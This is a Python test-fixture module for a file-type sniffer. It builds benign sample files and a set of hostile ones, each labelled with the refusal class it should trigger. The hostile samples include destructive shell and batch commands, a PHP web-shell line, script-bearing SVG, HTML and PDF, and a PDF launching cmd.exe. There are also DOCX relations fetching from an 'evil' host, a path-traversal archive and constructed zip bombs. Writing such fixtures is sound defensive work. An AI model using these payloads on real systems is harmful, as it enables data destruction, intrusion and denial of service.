"""Small files, made here: good ones, and those that would do harm."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

import xlsxwriter

from bingjian.documents.sniff_zip import SHEET, TEXT

PDF = (
    b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000056 00000 n \n"
    b"trailer\n<</Size 3/Root 1 0 R>>\nstartxref\n105\n%%EOF\n"
)


def pdf_with(objects: bytes) -> bytes:
    return PDF.replace(b"xref\n0 3", objects + b"\nxref\n0 3", 1)


def object_stream(objects: bytes, says: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    packed = zlib.compress(objects)
    return b"9 0 obj\n<<%s/Length %d>>\nstream\n%s\nendstream\nendobj" % (says, len(packed), packed)


def png(width: int = 1, height: int = 1, tail: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = [(b"IHDR", header), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")]
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + tail


def jpeg(width: int = 1, height: int = 1, tail: bytes = b"") -> bytes:
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
        + frame
        + b"\xff\xda\x00\x02\x00\xff\xd9"
        + tail
    )


def tiff(width: int = 1, height: int = 1) -> bytes:
    tags = struct.pack("<HHII", 256, 4, 1, width) + struct.pack("<HHII", 257, 4, 1, height)
    return b"II*\0" + struct.pack("<IH", 8, 2) + tags + bytes(4)


def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as opened:
        for name, content in members.items():
            opened.writestr(name, content)
    return file.getvalue()


def types(main: str) -> bytes:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/main.xml" ContentType="{main}"/></Types>'
    ).encode()


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<?xml version="1.0"?><p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/'
        'relationships">'
        f'<p:Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</p:Relationships>"
    ).encode()


def office(main: str, more: Mapping[str, bytes] | None = None) -> dict[str, bytes]:
    return {"[Content_Types].xml": types(main), "main.xml": b"<x/>", **(more or {})}


def docx(more: Mapping[str, bytes] | None = None) -> bytes:
    return zipped(office(f"{TEXT}.main+xml", more))


def xlsx(more: Mapping[str, bytes] | None = None) -> bytes:
    return zipped(office(f"{SHEET}.main+xml", more))


def real_xlsx() -> bytes:
    file = io.BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True})
    book.add_worksheet("摄像机").write_url(0, 0, "https://www.harbin.gov.cn/", string="链接")
    book.close()
    return file.getvalue()


def ofd() -> bytes:
    root = '<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>'
    return zipped({"OFD.xml": root.encode(), "Doc_0/Document.xml": b"<x/>"})


def encrypted_zip() -> bytes:
    """A good DOCX whose first member says that it is encrypted, in both its headers."""
    content = bytearray(docx())
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def overlapping_zip() -> bytes:
    """Many members of one and the same stretch of bytes, as in a bomb that needs no recursion."""
    one = zipped({"[Content_Types].xml": types(f"{TEXT}.main+xml")}, zipfile.ZIP_STORED)
    at = one.index(b"PK\x01\x02")
    entry, end = one[at : one.index(b"PK\x05\x06")], one[one.index(b"PK\x05\x06") :]
    renamed = [entry.replace(b"[Content_Types]", b"[Content_Ty%03d]" % number) for number in range(100)]
    entries = [entry, *renamed]
    directory = b"".join(entries)
    counts = struct.pack("<HHLL", len(entries), len(entries), len(directory), at)
    return one[:at] + directory + end[:8] + counts + end[20:]


GOOD = {
    "pdf": (PDF, "application/pdf"),
    "pdf, packed objects": (pdf_with(object_stream(b"5 0 <</A/B>>")), "application/pdf"),
    "pdf, outline": (pdf_with(b"4 0 obj\n<</Type/Outlines/First 5 0 R/Count 1>>\nendobj"), "application/pdf"),
    "png": (png(), "image/png"),
    "jpeg": (jpeg(), "image/jpeg"),
    "tiff": (tiff(), "image/tiff"),
    "xlsx": (xlsx(), SHEET),
    "xlsx with a link": (real_xlsx(), SHEET),
    "docx": (docx(), TEXT),
    "ofd": (ofd(), "application/ofd"),
    "csv": ("名称,地址\n甲,乙\n".encode(), "text/csv"),
    "csv, gb 18030": ("名称\t地址\r\n甲\t乙\r\n".encode("gb18030"), "text/csv"),
    "csv, bom": ("名称;地址\n甲;乙\n".encode("utf-8-sig"), "text/csv"),
    "text": ("验收合格。\n温度 < 5 ℃，<正常>\n".encode(), "text/plain"),
    "text, gb 18030": ("验收合格。".encode("gb18030"), "text/plain"),
    "text that begins as a program does": (b"MZ is not always a program\n", "text/plain"),
}
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HOSTILE = {  # what it is: (bytes, class of the refusal)
    "nothing": (b"", "BrokenFile"),
    "svg": (SVG, "ActiveFile"),
    "html": (b"\xef\xbb\xbf \n<HTML><body onload=x>", "ActiveFile"),
    "html far behind": (b"a" * (1024 * 1024 - 3) + b"<script>x</script>", "ActiveFile"),
    "html in gb 18030": ("中文<iframe src=x>".encode("gb18030"), "ActiveFile"),
    "saved web page": (b"From: a\nMIME-Version: 1.0\nContent-Type: text/html\n\nx", "ActiveFile"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "ActiveFile"),
    "batch script": (b"@echo off\r\ndel *.*\r\n", "ActiveFile"),
    "php": (b"text <?php system($_GET[0]);", "ActiveFile"),
    "windows program": (b"MZ\x90\0" + bytes(100), "ActiveFile"),
    "linux program": (b"\x7fELF\x02\x01\x01" + bytes(100), "ActiveFile"),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(100), "ActiveFile"),
    "old office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "UnknownFile"),
    "rtf": (b"{\\rtf1\\ansi{\\object}}", "UnknownFile"),
    "gif": (b"GIF89a" + bytes(20), "UnknownFile"),
    "gzip": (b"\x1f\x8b\x08" + bytes(20), "UnknownFile"),
    "utf-16": ("文字".encode("utf-16"), "UnknownFile"),
    "random": (bytes(range(256)), "UnknownFile"),
    "pdf cut off": (PDF[:-30], "BrokenFile"),
    "pdf with a page behind it": (PDF + SVG * 20, "BrokenFile"),
    "pdf with a script": (pdf_with(b"4 0 obj<</S/JavaScript/JS(x)>>endobj"), "ActiveFile"),
    "pdf with a script, spelt": (pdf_with(b"4 0 obj<</S/J#61va#53cript/JS(x)>>endobj"), "ActiveFile"),
    "pdf with a packed script": (pdf_with(object_stream(b"5 0 <</S/JavaScript/JS(x)>>")), "ActiveFile"),
    "pdf with a script, packed under another name": (
        pdf_with(object_stream(b"5 0 <</S/JavaScript>>", b"/Type 8 0 R/N 1/First 4/Filter/FlateDecode")),
        "ActiveFile",
    ),
    "pdf that starts programs": (pdf_with(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "ActiveFile"),
    "pdf with files in it": (pdf_with(b"4 0 obj<</Type/EmbeddedFile>>endobj"), "ActiveFile"),
    "pdf that sends data": (pdf_with(b"4 0 obj<</S/SubmitForm>>endobj"), "ActiveFile"),
    "pdf encrypted": (PDF.replace(b"/Root", b"/Encrypt 4 0 R/Root"), "EncryptedFile"),
    "pdf packed otherwise": (
        pdf_with(object_stream(b"x", b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")),
        "EncryptedFile",
    ),
    "pdf packed with a predictor": (
        pdf_with(object_stream(b"x", b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>")),
        "EncryptedFile",
    ),
    "pdf that swells": (pdf_with(object_stream(bytes(300_000_000))), "SwollenFile"),
    "png cut off": (png()[:-4], "BrokenFile"),
    "png with a program behind it": (png(tail=b"MZ\x90\0"), "BrokenFile"),
    "png that swells": (png(30_000, 30_000), "SwollenFile"),
    "jpeg that swells": (jpeg(60_000, 60_000), "SwollenFile"),
    "jpeg with an archive behind it": (jpeg(tail=docx()), "BrokenFile"),
    "tiff that swells": (tiff(60_000, 60_000), "SwollenFile"),
    "tiff without a directory": (b"II*\0\xff\xff\xff\xff", "BrokenFile"),
    "any archive": (zipped({"a.txt": b"x"}), "UnknownFile"),
    "archive cut off": (docx()[:-10], "BrokenFile"),
    "archive with a page behind it": (docx() + SVG, "BrokenFile"),
    "macros": (docx({"word/vbaProject.bin": b"x"}), "ActiveFile"),
    "macros under another name": (
        zipped(office("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "ActiveFile",
    ),
    "macro sheet": (xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), "ActiveFile"),
    "control": (docx({"word/activeX/activeX1.xml": b"<x/>"}), "ActiveFile"),
    "file inside": (docx({"word/embeddings/oleObject1.bin": b"x"}), "ActiveFile"),
    "link to another workbook": (xlsx({"xl/externalLinks/externalLink1.xml": b"<x/>"}), "ActiveFile"),
    "template from elsewhere": (
        docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil/t.dotm")}),
        "ActiveFile",
    ),
    "picture from elsewhere, mode in references": (
        docx({"word/_rels/d.xml.rels": relations("image", "http://evil/x.png", "&#69;xternal")}),
        "ActiveFile",
    ),
    "link to a local program": (
        docx({"word/_rels/d.xml.rels": relations("hyperlink", "file:///c:/x.exe")}),
        "ActiveFile",
    ),
    "program in a package": (docx({"word/media/a.exe": b"MZ"}), "ActiveFile"),
    "entities": (
        docx({"_rels/.rels": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}),
        "ActiveFile",
    ),
    "no xml": (docx({"_rels/.rels": b"\xff\xfe<"}), "BrokenFile"),
    "deep xml": (docx({"_rels/.rels": b"<x>" * 10_000}), "BrokenFile"),
    "wide xml": (docx({"_rels/.rels": b"<x>" + b"<y/>" * 100_000 + b"</x>"}), "SwollenFile"),
    "way out": (docx({"../../etc/passwd": b"x"}), "BrokenFile"),
    "encrypted package": (encrypted_zip(), "EncryptedFile"),
    "bomb": (docx({"word/document.xml": bytes(20_000_000)}), "SwollenFile"),
    "bomb of shared bytes": (overlapping_zip(), "SwollenFile"),
    "very many files": (zipped({f"{n}": b"" for n in range(10_001)}), "SwollenFile"),
    "ofd that is none": (zipped({"OFD.xml": b"<html/>"}), "BrokenFile"),
}
